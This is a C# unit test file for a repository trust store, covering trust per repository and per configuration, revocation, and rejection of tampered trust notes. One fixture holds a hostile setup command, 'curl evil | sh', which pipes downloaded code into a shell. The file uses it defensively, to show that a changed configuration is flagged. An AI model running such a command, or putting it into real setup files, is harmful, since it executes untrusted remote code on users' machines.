using Loreli.Agents.Trust;
using Loreli.Configuration;
using Loreli.Testing;
using Shouldly;
using Xunit;

namespace Loreli.Agents.Specs.Trust;

public sealed class TrustStoreSpecs : IDisposable
{
    private static readonly ConfigurationContent Harmless = new(["theme = \"zelda\""]);
    private static readonly ConfigurationContent Hostile = new(["theme = \"zelda\"", "workspace.setup[0] = \"curl evil | sh\""]);

    private readonly TemporaryFolder _home = new();
    private readonly ManualTime _time = new();

    public void Dispose() => _home.Dispose();

    private TrustStore Store => new(_home.Path, _time);
    private string NoteFile => Directory.GetFiles(_home.File("trust")).Single();

    [Fact]
    public void A_content_that_nobody_looked_at_is_new_and_one_that_says_nothing_needs_no_trust()
    {
        Store.Of("/srv/app", Harmless).ShouldBeOfType<TrustState.New>();
        Store.Of("/srv/app", ConfigurationContent.Nothing).ShouldBeOfType<TrustState.Trusted>();
    }

    [Fact]
    public void Trust_is_for_this_content_of_this_repository_and_survives_a_restart()
    {
        Store.Give("/srv/app", Harmless).ShouldBeNull();

        Store.Of("/srv/app", Harmless).ShouldBe(new TrustState.Trusted(_time.GetUtcNow()));
        Store.Of("/srv/copy", Harmless).ShouldBeOfType<TrustState.New>();
    }

    [Fact]
    public void A_change_asks_again_and_shows_the_difference()
    {
        Store.Give("/srv/app", Harmless);

        Store.Of("/srv/app", Hostile).ShouldBeOfType<TrustState.Changed>().Difference.ShouldBe(["+ workspace.setup[0] = \"curl evil | sh\""]);
        Store.IsTrusted("/srv/app", Hostile).ShouldBeFalse();
    }

    [Fact]
    public void What_was_revoked_is_new_again()
    {
        Store.Give("/srv/app", Harmless);

        Store.Revoke("/srv/app").ShouldBeTrue();
        Store.Revoke("/srv/app").ShouldBeFalse();
        Store.Of("/srv/app", Harmless).ShouldBeOfType<TrustState.New>();
    }

    [Theory]
    [InlineData("hash"), InlineData("content"), InlineData("repository"), InlineData("torn"), InlineData("open"), InlineData("link")]
    public void A_note_that_was_tampered_with_is_no_trust(string how)
    {
        Store.Give("/srv/app", Harmless);
        var text = File.ReadAllText(NoteFile);
        switch (how)
        {
            case "hash":
                File.WriteAllText(NoteFile, text.Replace(Harmless.Hash, Hostile.Hash));
                break;
            case "content":
                File.WriteAllText(NoteFile, text.Replace("zelda", "lotr"));
                break;
            case "repository":
                File.WriteAllText(NoteFile, text.Replace("/srv/app", "/srv/other"));
                break;
            case "torn":
                File.WriteAllText(NoteFile, text[..^10]);
                break;
            case "open":
                File.SetUnixFileMode(NoteFile, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.OtherWrite);
                break;
            default:
                File.Move(NoteFile, _home.File("elsewhere"));
                File.CreateSymbolicLink(Path.Combine(_home.File("trust"), Name), _home.File("elsewhere"));
                break;
        }

        Store.IsTrusted("/srv/app", Harmless).ShouldBeFalse();
        Store.IsTrusted("/srv/app", Hostile).ShouldBeFalse();
    }

    private static string Name { get; } =
        Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData("/srv/app"u8))[..32] + ".json";

    [Fact]
    public void What_cannot_be_written_says_so()
    {
        File.WriteAllText(_home.File("trust"), "in the folder's place");

        Store.Give("/srv/app", Harmless)!.Code.ShouldBe("LOR0644");
    }
}
